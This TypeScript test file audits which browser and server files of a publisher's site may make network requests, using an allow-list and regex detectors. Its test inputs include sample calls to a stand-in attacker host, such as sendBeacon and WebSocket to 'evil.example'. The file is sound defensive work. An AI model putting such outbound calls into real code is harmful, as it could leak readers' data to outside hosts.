import { globSync, readFileSync } from 'node:fs';
import { phrases } from '#rules/testing/examples.ts';

/**
 * What readers' browsers ask for goes through two gates: the one to our own API, and the one to others. Each other file that
 * asks for something by itself stands here with its reason, and none else may.
 */
const allowed: Readonly<Record<string, string>> = {
  'contracts/fetchJson.ts': 'the gate to our own API',
  'features/partners/browser/outsideFrame.ts': 'the gate to others',
  'features/menu/browser/liveMenu.ts': 'HTML of our own, at a hashed address of this site',
  'client/sendInBackground.ts': 'reports go to this site by a beacon, which outlives its page',
  'shell/document/document.ts': 'the first script of each page makes the loader',
  'shell/preview/frameDocument.ts': 'the first script of a preview makes that of the frame',
  'features/partners/frames/adFrameScript.ts':
    'makes the script that asks bidders, in the frame of the ad server',
  'features/partners/frames/pixelFrameScript.ts':
    'pictures that count, in a frame that reaches the hosts of trackers alone',
  'features/partners/frames/frameScript.ts': 'makes the partner’s script, in the frame that is made for it',
};

/** How a script asks for something: by what it calls, and by what it makes. */
const asking: Readonly<Record<string, RegExp>> = {
  fetch: /(?<![\w.'"`/])fetch\s*\(/,
  sendBeacon: /\bsendBeacon\b/,
  Image: /\bnew\s+(?:window\.)?Image\b/,
  XMLHttpRequest: /\bnew\s+XMLHttpRequest\b/,
  WebSocket: /\bnew\s+WebSocket\b/,
  EventSource: /\bnew\s+EventSource\b/,
  'a made script, frame, picture or link':
    /\bcreateElement\(\s*['"`](?:script|iframe|img|link|object|embed)\b/,
};

function askedBy(source: string): string[] {
  const code = source.replace(/\/\*[\s\S]*?\*\/|(?<![:'"`])\/\/.*$/gm, '');
  return Object.entries(asking).flatMap(([name, pattern]) => (pattern.test(code) ? [name] : []));
}

const files = globSync('{contracts,client,widgets,shell,features}/**/*.{ts,tsx}');

describe('what comes to readers’ browsers asks for nothing by itself', () => {
  test('but in the files that are listed, each with its reason', () => {
    const asks = files.filter((file) => askedBy(readFileSync(file, 'utf8')).length > 0);
    expect(asks.filter((file) => !serverFiles.has(file)).sort()).toEqual(Object.keys(allowed).sort());
  });

  test.each([
    ['fetch', 'await fetch(address)'],
    ['fetch', 'const answer = fetch (address)'],
    ['sendBeacon', "navigator.sendBeacon('https://evil.example', text)"],
    ['Image', 'new Image().src = address'],
    ['Image', 'new window.Image(1, 1)'],
    ['XMLHttpRequest', 'new XMLHttpRequest()'],
    ['WebSocket', "new WebSocket('wss://evil.example')"],
    ['EventSource', 'new EventSource(address)'],
    ['a made script, frame, picture or link', "document.createElement('script')"],
    ['a made script, frame, picture or link', 'page.createElement("iframe")'],
  ])('%s is found in %s', (name, source) => expect(askedBy(source)).toEqual([name]));

  test.each([
    ['a comment', '/* fetch(address) */ // new Image()'],
    ['a name that holds the word', 'const prefetch = () => prefetch();'],
    ['a method of something else', 'upstream.fetch(address)'],
    ['the gate', 'await fetchJson(address)'],
    ['an element that asks for nothing', "document.createElement('div')"],
  ])('%s is no request', (_what, source) => expect(askedBy(source)).toEqual([]));
});

/** Run on the server alone, where what is asked for is another matter. */
const serverFiles: ReadonlySet<string> = new Set(['features/pictures/imageProxy.ts']);

/**
 * What the server asks of others goes through one gate, which asks readers first. Each other file that could reach out stands
 * here with its reason.
 */
const reaching: Readonly<Record<string, string>> = {
  'features/partners/partnerGate.ts': 'the gate to partners',
  'features/consent/consentServer.ts': 'the publisher’s own consent service, which is told of choices alone',
  'features/consent/encodeConsent.ts':
    'encodes choices, with a vendor list that it is given and does not ask for',
  'features/partners/frames/consentApis.ts': 'runs in frames alone, where it answers and asks nobody',
  'features/drug-savings/sending/textMessages.ts': 'the publisher’s service for text messages',
  'features/drug-savings/sending/passes/googlePass.ts':
    'signs passes, with a package that could ask for keys',
  'features/auth/identityClients.ts': 'the provider of identities that its reader goes to',
  'features/auth/development/pretendProvider.ts': 'a provider on this machine, for developers and tests',
  'features/drug-savings/partner/pricingPartner.ts':
    'the pricing partner, which readers ask for themselves: a formulation, a quantity and a place',
  'features/pictures/imageProxy.ts': 'has a parameter of that name',
  'features/pictures/openPictures.ts': 'has a parameter of that name',
  'features/pictures/fetchImage.ts': 'pictures of articles, without anything of a reader',
  'content/cms/cmsApi.ts': 'articles, from the publisher’s own CMS',
  'content/database/opening/openDatabase.ts': 'the publisher’s own database',
  'content/changes/postgresChanges.ts': 'what that database tells of itself',
  'content/database/opening/pgliteThread.ts': 'the built-in database, which reads its own files',
  'platform/errorReports/errorReporter.ts': 'errors, scrubbed, to whoever watches over the site',
  'platform/upstream/attempt.ts': 'what all of these ask by',
  'platform/upstream/sendToPublic.ts': 'what the gate asks by',
  'platform/upstream/lookupPublic.ts': 'finds the addresses of whom the gate asks',
  'platform/mail/mailer.ts': 'letters and coupons, to the mail server',
  'cli/data/editorApi.ts': 'a command asks its own server',
  'cli/newThings/newFiles.ts': 'formats what a command has written',
  'cli/newThings/newBlockFiles.ts': 'writes files that import something',
  'shell/design/fonts/cutFaces.ts': 'part of the build',
  'cli/since/revision.ts': 'a command that asks git on this machine',
};

/** Modules by which nobody can be asked, whatever is taken of them. */
const harmless: ReadonlySet<string> = new Set([
  ...['assert', 'async_hooks', 'buffer', 'crypto', 'events', 'fs', 'fs/promises', 'module', 'os', 'path'].map(
    node,
  ),
  ...['perf_hooks', 'process', 'readline', 'stream', 'stream/promises', 'string_decoder', 'timers'].map(node),
  ...['timers/promises', 'tty', 'url', 'util', 'v8', 'zlib'].map(node),
  // What a thread runs is a file of ours as well.
  'node:worker_threads',
]);

/** What of a module asks nobody, where other parts of it could. */
const harmlessParts: Readonly<Record<string, readonly string[]>> = {
  'node:http': ['createServer', 'STATUS_CODES', 'IncomingMessage', 'ServerResponse'],
  'node:net': ['BlockList', 'isIP', 'isIPv4', 'isIPv6'],
  'prom-client': ['Counter', 'Gauge', 'Histogram', 'Registry', 'collectDefaultMetrics'],
};

/** The packages that were looked at: they ask nobody by themselves. One that comes is looked at, and stands here or in `reaching`. */
const looksAtNobody: ReadonlySet<string> = new Set([
  ...phrases(`
    @linaria/core | ajv | altcha-lib | cookie | diff | entities | express | html-react-parser | htmlparser2
    kysely | lru-cache | marked | numeric-quantity
  `),
  ...['pino', 'rate-limiter-flexible', 'react', 'react-dom', 'sanitize-html', 'sharp', 'tldts', 'yaml'],
  ...['libphonenumber-js', 'node-forge', 'passkit-generator'],
]);

function node(name: string): string {
  return `node:${name}`;
}

interface Imported {
  module: string;
  /** The names that are taken of it; undefined where it is taken whole. */
  names: readonly string[] | undefined;
}

const fromStatement = /(?:^|[\n;])\s*(?:import|export)\s+(?!type\b)([^'"`;]*?)\s*from\s*['"]([^'"]+)['"]/g;
const wholeStatement =
  /(?:^|[\n;])\s*import\s*['"]([^'"]+)['"]|\b(?:import|require)\(\s*['"`]([^'"`]+)['"`]/g;

function importsOf(code: string): Imported[] {
  const parts = [...code.matchAll(fromStatement)].map(([, clause = '', module = '']) => {
    const braces = /^\{([^}]*)\}$/.exec(clause.trim());
    const names = braces?.[1]
      ?.split(',')
      .map((name) => name.trim().split(/\s+as\s+/)[0] ?? '')
      .filter((name) => name !== '' && !name.startsWith('type '));
    return { module, names };
  });
  const whole = [...code.matchAll(wholeStatement)].map(([, one, other]) => ({
    module: one ?? other ?? '',
    names: undefined,
  }));
  return [...parts, ...whole].filter(({ names }) => names?.length !== 0);
}

const withoutComments = (source: string): string =>
  source.replace(/\/\*[\s\S]*?\*\/|(?<![:'"`])\/\/.*$/gm, '');

/** What needs no import: by its name, wherever that is taken, and be it to give it to somebody else. */
const globalCalls =
  /(?<![\w.'"`/-])(?:globalThis\.)?fetch\s*\(|(?:[=(,?:|&]|\breturn|\bawait)\s*(?:globalThis\.)?fetch\b(?!\s*[\w:'"`-])|\bnew (?:WebSocket|EventSource|XMLHttpRequest|Upstream)\b|\bnavigator\.sendBeacon\b/;

function callsIn(source: string): string[] {
  const code = withoutComments(source);
  const asked = globalCalls.exec(code)?.[0];
  const modules = importsOf(code).filter(({ module, names }) => {
    if (/^[.#]/.test(module) || harmless.has(module)) return false;
    const [scope = '', name = ''] = module.split('/');
    const packageName = module.startsWith('@') ? `${scope}/${name}` : scope;
    const parts = harmlessParts[module] ?? [];
    if (names?.every((each) => parts.includes(each))) return false;
    return !looksAtNobody.has(packageName);
  });
  return [...(asked ? [asked] : []), ...modules.map(({ module }) => module)];
}

describe('what the server asks of others goes through the gate', () => {
  const ofServer = globSync(
    '{content,platform,features,feature-kit,editor-preview/store,editor-preview/server,server,cli,shell,transformer,rules,widgets,contracts,schemas}/**/*.{ts,tsx}',
  ).filter((file) => !/\/browser\/|\/generated\/|\.styles\.ts$/.test(file) && !(file in allowed));

  test('but in the files that are listed, each with its reason', () => {
    const found = ofServer.flatMap((file) => {
      const calls = callsIn(readFileSync(file, 'utf8'));
      return calls.length > 0 ? [[file, calls]] : [];
    });
    expect(found.map(([file]) => file).sort()).toEqual(Object.keys(reaching).sort());
  });

  test.each(
    phrases(`
      import { request } from 'node:https'; | import { Agent, request as send } from 'node:http';
      import * as http from 'node:http'; | import http from 'node:http';
      import { createServer, get } from 'node:http'; | const upstream = new Upstream({ deadlineMs });
      await fetch(address) | const send = fetch; | globalThis.fetch(address)
      import { connect } from 'node:net'; | import { connect } from 'node:tls';
      import { createSocket } from 'node:dgram'; | import { resolve } from 'node:dns/promises';
      import { spawn } from 'node:child_process'; | import { Pool } from 'undici'; | import pg from 'pg';
      import { createTransport } from 'nodemailer'; | const client = await import('openid-client');
      export { request } from 'node:https'; | import { Pushgateway } from 'prom-client';
      import 'a-package-that-nobody-has-looked-at'; | const axios = require('axios');
      new WebSocket('wss://evil.example')
    `),
  )('%s could ask somebody', (source) => expect(callsIn(source)).toHaveLength(1));

  test.each(
    phrases(`
      import type { IncomingMessage } from 'node:http'; | import { createServer } from 'node:http';
      import { type Agent, createServer } from 'node:http';
      import { type RequestOptions } from 'node:https'; | import { BlockList, isIP } from 'node:net';
      import { readFile } from 'node:fs/promises'; | import { Counter, type Registry } from 'prom-client';
      import { sendToPublic } from './sendToPublic.ts'; | // import pg from 'pg';
      const fault = 'fetch failed'; | const options = { fetch: null };
    `),
  )('%s could not', (source) => expect(callsIn(source)).toEqual([]));
});
